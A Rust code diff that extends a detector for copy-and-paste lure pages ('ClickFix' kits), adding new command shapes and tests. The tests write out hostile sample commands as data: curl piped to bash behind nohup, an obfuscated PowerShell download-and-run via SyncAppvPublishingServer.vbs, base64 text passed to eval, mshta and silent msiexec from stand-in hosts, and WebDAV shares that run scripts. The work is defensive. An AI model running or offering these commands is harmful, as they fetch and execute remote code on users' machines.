@@ -254,7 +254,7 @@ impl Command {
         // A WebDAV share on the page's own site is how an IT page maps its drive.
         let unc = unc_host(&self.flat);
         let dav = unc.contains('@') || has(&self.flat, "davwwwroot");
-        let elsewhere = !same_site(unc.split('@').next().unwrap_or(""), page_site);
+        let elsewhere = !own_share(unc, page_site);
         if unc_reaches_out(&self.flat) && (dav && elsewhere || ip_host(unc)) {
             return 2;
         }
@@ -555,7 +555,13 @@ fn borrowed(addr: &str) -> bool {
 
 /// The host of the first UNC path of `flat` (empty when there is none).
 fn unc_host(flat: &str) -> &str {
-    flat.find("\\\\").map_or("", |i| share_host(&flat[i..]))
+    share_host(unc_at(flat))
+}
+
+/// `flat` from its first UNC path on (empty when there is none).
+#[inline(never)]
+fn unc_at(flat: &str) -> &str {
+    flat.find("\\\\").map_or("", |i| &flat[i..])
 }
 
 /// A UNC path to a host the internet can serve: a dotted name, an IP, WebDAV's `host@SSL`.
@@ -708,9 +714,10 @@ const RUNNERS: &[&str] = &[
 /// API doc's: review 28 C-M1).
 fn piped_to_shell(flat: &str) -> bool {
     flat.split('|').skip(1).any(|after| {
-        let mut args = after.split(' ').filter(|t| !t.is_empty());
+        // (`| nohup bash &`, `| bash; echo done`: the shell is the word after the pipe.)
+        let mut args = tokens(after).into_iter();
         let name = args
-            .find(|t| *t != "sudo" && !t.starts_with('-'))
+            .find(|t| !matches!(*t, "sudo" | "nohup") && !t.starts_with('-'))
             .map_or("", program);
         match RUNNERS[..RUNNERS.len() - 3].iter().position(|s| *s == name) {
             None => false,
@@ -887,8 +894,9 @@ fn shapes(flat: &str) -> Vec<Shape> {
     let prog = |name: &str| toks.iter().any(|t| program(t) == name);
     let mut out = Vec::new();
 
-    // PowerShell: flags can be abbreviated to any unambiguous prefix.
-    let ps = prog("powershell") || prog("pwsh");
+    // PowerShell: flags can be abbreviated to any unambiguous prefix. Windows' signed
+    // `SyncAppvPublishingServer.vbs "n; …"` runs what follows its `;` as PowerShell, hidden.
+    let ps = prog("powershell") || prog("pwsh") || has(flat, "syncappvpublishingserver");
     // (`[scriptblock]::Create(…).Invoke()`, `$ExecutionContext.InvokeCommand.InvokeScript(…)`,
     // `&(gcm i*x)`: the same run of fetched text without the word `iex`.)
     let ps_exec = [
@@ -1015,16 +1023,33 @@ fn shapes(flat: &str) -> Vec<Shape> {
     // organisation: over WebDAV (`host@SSL`, `DavWWWRoot`), on a bare IP, or naming a script or
     // program, which the Run box starts. (A printer or a folder on a named host is what IT pages
     // give.)
-    let opener = toks
-        .first()
-        .is_some_and(|t| matches!(program(t), "explorer" | "start"));
-    let path = toks.get(usize::from(opener)).copied().unwrap_or("");
+    // (`pushd \\share && start x.bat`, `net use z: \\share && z:\x.cmd`: the share mapped as a
+    // drive, then a program run from it. A mapping alone runs nothing: IT pages map their
+    // SharePoint library so, `net use z: \\tenant.sharepoint.com@SSL\DavWWWRoot\…`, review 38
+    // CX38-H1.)
+    let first = toks.first().map_or("", |t| program(t));
+    let net = first == "net" && toks.get(1) == Some(&"use");
+    let maps = net || first == "pushd";
+    let at = usize::from(maps || matches!(first, "explorer" | "start"))
+        + usize::from(net)
+        + usize::from(net && toks.get(2).is_some_and(|t| t.ends_with(':')));
+    // (`search-ms:query=…&crumb=location:\\host@SSL\share`: Explorer lists the share's files as
+    // results, a shortcut among them.)
+    let search = first.starts_with("search");
+    let path = if search {
+        unc_at(flat)
+    } else {
+        toks.get(at).copied().unwrap_or("")
+    };
     let host = share_host(path);
     let runnable = runnable(path);
     let lure_share = host.contains('@') || has(path, "davwwwroot") || ip_host(host) || runnable;
     // The Run box passes what follows a program to it: `\\ip\pub\check.exe # I am not a robot`.
     if path.starts_with("\\\\")
-        && (toks.len() <= 1 + usize::from(opener) || runnable)
+        && (!maps && toks.len() <= 1 + at
+            || runnable
+            || search
+            || maps && toks.iter().skip(at + 1).any(|t| self::runnable(t)))
         && lure_share
         && unc_reaches_out(path)
     {
@@ -1042,7 +1067,8 @@ fn shapes(flat: &str) -> Vec<Shape> {
             toks.windows(2)
                 .any(|w| program(w[0]) == *s && (w[1] == "-c" || w[1].starts_with("<")))
         });
-    if b64 && to_shell {
+    // (`eval "$(echo … | base64 -d)"` runs the decoded text as `sh -c` would.)
+    if b64 && (to_shell || has_word(flat, "eval")) {
         out.push(Shape::Base64Shell);
     }
     if fetch && has(flat, "chmod +x") {
@@ -1091,6 +1117,21 @@ fn same_site(host: &str, site: &str) -> bool {
         && host
             .strip_suffix(site)
             .is_some_and(|h| h.is_empty() || h.ends_with('.'))
+}
+
+/// A share host on the page's registrable domain `site`, or whose first label spells the site's
+/// name, hyphens aside: a company's SharePoint tenant (`marlowhousing.sharepoint.com@SSL` on
+/// marlow-housing.example), which a kit must register per site (review 38 CX38-H3).
+fn own_share(host: &str, site: &str) -> bool {
+    let host = host.split('@').next().unwrap_or("");
+    let name = site.split('.').next().unwrap_or("");
+    let label = host.split('.').next().unwrap_or("");
+    same_site(host, site)
+        || name.len() >= 4
+            && label
+                .bytes()
+                .filter(|&c| c != b'-')
+                .eq(name.bytes().filter(|&c| c != b'-'))
 }
 
 /// Extensions Windows runs when a path to them is opened.
@@ -1453,7 +1494,7 @@ impl PageHits {
     /// A share path is compared without its trailing separator, however short it is.
     fn shows(&self, command: &Command) -> bool {
         if command.shapes.contains(&Shape::UncOpen) {
-            let path = command.flat.find("\\\\").map_or("", |i| &command.flat[i..]);
+            let path = unc_at(&command.flat);
             let path = trim_end_by(path, |c| c == '\\' || c == '/');
             return path.len() > 2 && has(&self.flat, path);
         }
@@ -1577,6 +1618,16 @@ impl PageHits {
     /// The story a lure tells around its command: a repair, a missing update, a file to open, an
     /// error, a system screen, or an infection on the reader's machine ("Trojan detected on this
     /// PC"; "an open-source malware scanner" names a product). Problems set aside are not told.
+    /// The page says something is missing ("the missing viewer component", „fehlende
+    /// Komponente“, « composant manquant »), in en de fr es/pt it nl pl.
+    fn names_missing(&self) -> bool {
+        [
+            "missing", "manquant", "fehlend", "falta", "mancant", "ontbrek", "brakuj",
+        ]
+        .iter()
+        .any(|w| has(&self.flat, w))
+    }
+
     fn story(&self) -> impl Iterator<Item = &Hit> {
         self.hits.iter().filter(|h| {
             let told = match h.cat {
@@ -2100,8 +2151,11 @@ fn assess_command(command: Command, page: &PageHits, typed: bool) -> Option<Clic
         && command.remote
         && !command.fetches_from_site(&page.site)
         && !command.fetches_from_owned(&page.site)
-        // (`msiexec /i https://…` alone is how IT pages deploy an agent: review 35 CX35-H2.)
-        && !command.shapes.iter().all(|s| *s == Shape::MsiexecUrl)
+        // (`msiexec /i https://…` alone is how IT pages deploy an agent: review 35 CX35-H2; a
+        // kit's installs a component it says is missing, off a help address: thirty-eighth
+        // session.)
+        && (!command.shapes.iter().all(|s| *s == Shape::MsiexecUrl)
+            || page.names_missing() && !page.help)
         // (How it starts, and the sites it fetches from: a kit prints 32 bytes in tiny text.)
         && !(page.shows_head(&command) && command.https_sites.iter().all(|s| has(&page.flat, s)));
     let docs = install_like && !kept_off && page.documents_install(&command);
@@ -2136,7 +2190,7 @@ fn assess_command(command: Command, page: &PageHits, typed: bool) -> Option<Clic
     // share is what IT pages copy.
     let host = unc_host(&command.flat);
     let dav = host.contains('@') || has(&command.flat, "davwwwroot");
-    let elsewhere = registrable(host.split('@').next().unwrap_or("")) != page.site;
+    let elsewhere = !own_share(host, &page.site);
     let unc_lure = dav && elsewhere || ip_host(host);
     // A reference page (a sysadmin wiki, a command cheat sheet) shows the very command it
     // copies and tells nothing around it: no human check, no repair, error, update or infection.
@@ -5025,5 +5079,137 @@ mod tests {
             "https://www.praxis-eichhof.test/",
             "Some users see this: the booking calendar did not load correctly. How to fix:"
         ));
+    }
+
+    /// Session 38: command shapes held-out kits use that main did not read (each one fails on
+    /// main 837f425: no shape, so no verdict whatever the page says).
+    #[test]
+    fn kits_shapes_of_the_thirty_eighth_session() {
+        // Windows' signed App-V script runs what follows its `;` as PowerShell; `gcm *stM*` is
+        // Invoke-RestMethod found by a wildcard, `gal i*x` iex.
+        assert!(shapes_of(
+            r#"C:\WINDOWS\system32\SyncAppvPublishingServer.vbs "n;&(gal i*x)(&(gcm *stM*) 'cdn.kit.test/a')""#
+        )
+        .contains(&Shape::PowerShellDownload));
+        // A WebDAV or public-IP share mapped as a drive, then run from.
+        for clip in [
+            r"pushd \\verify-cdn.test@SSL\DavWWWRoot && start run.bat",
+            r"net use Z: \\203.0.113.12\pub && Z:\check.cmd",
+            r"net use \\verify-cdn.test@SSL\s & \\verify-cdn.test@SSL\s\a.exe",
+            // Explorer's search over such a share: its files shown as results.
+            r"search-ms:query=Invoice&crumb=location:\\verify-cdn.test@SSL\DavWWWRoot\files",
+        ] {
+            assert_eq!(shapes_of(clip), [Shape::UncOpen], "{clip}");
+        }
+        // The organisation's own share mapped so is none (a named host, a private address), nor
+        // a mapping that runs nothing (IT pages map SharePoint over WebDAV: review 38 CX38-H1).
+        for clip in [
+            r"net use Z: \\marlowhousing.sharepoint.com@SSL\DavWWWRoot\sites\team",
+            r"pushd \\verify-cdn.test@SSL\DavWWWRoot && dir",
+            r"net use Z: \\fileserver.corp.example\Teams",
+            r"pushd \\10.1.2.3\setup && setup.cmd",
+            r"net use Z: \\fs01\home",
+            "search-ms:query=*.docx&crumb=location:C:\\Users",
+        ] {
+            assert!(!shapes_of(clip).contains(&Shape::UncOpen), "{clip}");
+        }
+        // A pipe to a shell behind `nohup`, or with a command after it.
+        for clip in [
+            "curl -sL https://kit.test/a | nohup bash &",
+            "curl -fsSL https://kit.test/i | nohup zsh",
+            "curl -s https://kit.test/i | bash; echo \"Verification successful\"",
+        ] {
+            assert!(shapes_of(clip).contains(&Shape::PipeToShell), "{clip}");
+        }
+        // (Data still: a pipe into a reader that runs nothing.)
+        assert!(shapes_of("curl -s https://x.example/a | nohup jq . > out.json").is_empty());
+        // Decoded base64 given to `eval`.
+        assert_eq!(
+            shapes_of("x=$(echo Y3VybCAtcyBo | base64 -d); eval \"$x\""),
+            [Shape::Base64Shell]
+        );
+        assert_eq!(
+            shapes_of("eval \"$(echo Y3VybCAtcyBo | base64 --decode)\""),
+            [Shape::Base64Shell]
+        );
+        // `eval` of anything else, and base64 decoded to the screen, are not.
+        assert!(shapes_of("eval \"$(ssh-agent -s)\" && ssh-add").is_empty());
+        assert!(shapes_of("echo aGVsbG8= | base64 -D").is_empty());
+    }
+
+    /// Review 38 CX38-H3: an intranet page mapping its company's SharePoint tenant over WebDAV
+    /// and running its installer from it; the same from a share another name owns is a lure.
+    #[test]
+    fn a_share_on_the_company_tenant_is_its_own() {
+        let text =
+            "Install the office printers. Click Copy, press Windows + R, type cmd and press \
+                    Enter, then right-click to paste the line and press Enter.";
+        let url = "https://intranet.marlow-housing.example/it/print-setup";
+        let own =
+            r"net use P: \\marlowhousing.sharepoint.com@SSL\DavWWWRoot\sites\it && P:\setup.cmd";
+        assert!(reasons(&snap_of(url, "", text, own)).is_none());
+        let kit = r"net use P: \\printfix.sharepoint.com@SSL\DavWWWRoot\sites\it && P:\setup.cmd";
+        assert!(reasons(&snap_of(url, "", text, kit)).is_some());
+    }
+
+    /// Session 38: the steps' other wordings (right-click on the Start menu, the Windows key held
+    /// in es fr pt ru nl pl, "type cmd" for a command kept off the page).
+    #[test]
+    fn run_steps_worded_otherwise() {
+        let clip = "mshta https://cdn-verify.test/v.hta";
+        for text in [
+            "Right-click the Start menu and select Windows PowerShell. Right-click to paste, then press Enter.",
+            "Right click on the Windows icon, choose Windows PowerShell, right click to paste and press Enter.",
+            "Mantenga presionada la tecla Windows y presione R. Pegue con Ctrl + V y presione Intro.",
+            "Maintenez la touche Windows enfoncée et appuyez sur R, puis Ctrl + V et Entrée.",
+            "Segure a tecla Windows e pressione R, depois Ctrl + V e Enter.",
+            "Удерживая клавишу Windows, нажмите R, затем Ctrl + V и Enter.",
+            "Houd de Windows-toets ingedrukt en druk op R, dan Ctrl + V en Enter.",
+            "Przytrzymaj klawisz Windows i naciśnij R, potem Ctrl + V i Enter.",
+        ] {
+            assert!(judged(clip, text), "{text}");
+        }
+        // "type cmd" is a run step for a command the page does not show, not for one it shows.
+        let text = "Press the Windows key, type cmd, right-click to paste and press Enter.";
+        assert!(judged(clip, text));
+        let shown =
+            "Press the Windows key, type cmd, then run: netsh winsock reset && ipconfig /flushdns";
+        assert!(!judged("netsh winsock reset && ipconfig /flushdns", shown));
+    }
+
+    /// Session 38 (review 35 CX35-M5): a bare `msiexec /i https://…` kept off the page, from
+    /// another site, under Run-box steps, installing a component the page says is missing. An
+    /// IT page's hidden install command (review 35 CX35-H2) names nothing missing.
+    #[test]
+    fn a_missing_component_installed_by_a_bare_msiexec_kept_off_the_page() {
+        let clip = "msiexec /i https://dl.player-cdn.test/comp.msi /qn";
+        for text in [
+            "Install the missing media component. To finish, press Win + R, paste the command with Ctrl + V and press Enter.",
+            "Fehlende Anzeigekomponente installieren. Zum Abschluss drücken Sie Win + R, fügen den Befehl mit Strg + V ein und drücken Enter.",
+            "Installez le composant manquant du lecteur. Pour terminer, appuyez sur Windows + R, collez la commande avec Ctrl + V et appuyez sur Entrée.",
+        ] {
+            let s = snap_of("https://media-player-setup.site/", "Setup", text, clip);
+            assert!(reasons(&s).is_some(), "{text}");
+        }
+        let it = "Install the backup agent. Click Copy install command, then press Win + R, paste \
+                  with Ctrl + V and press Enter. The agent installs in the background.";
+        let agent = "msiexec /i https://deploy.backupvendor-cdn.example/agent/6.2/agent.msi /qn";
+        let s = snap_of("https://it.fenwick.example/kb/agent", "Agent", it, agent);
+        assert!(reasons(&s).is_none());
+        // Nor does one on a help address that says so: read as before.
+        let it = format!("The Teams add-in is missing in Outlook. {it}");
+        let s = snap_of("https://it.fenwick.example/kb/addin", "Add-in", &it, agent);
+        assert!(reasons(&s).is_none());
+        // Shown, it is documentation, missing or not.
+        let shown = format!(
+            "If the backup agent is missing, install it: press Win + R, paste and press Enter. {agent} Copy"
+        );
+        let s = snap_of(
+            "https://it.fenwick.example/kb/agent",
+            "Agent",
+            &shown,
+            agent,
+        );
+        assert!(reasons(&s).is_none());
     }
 }
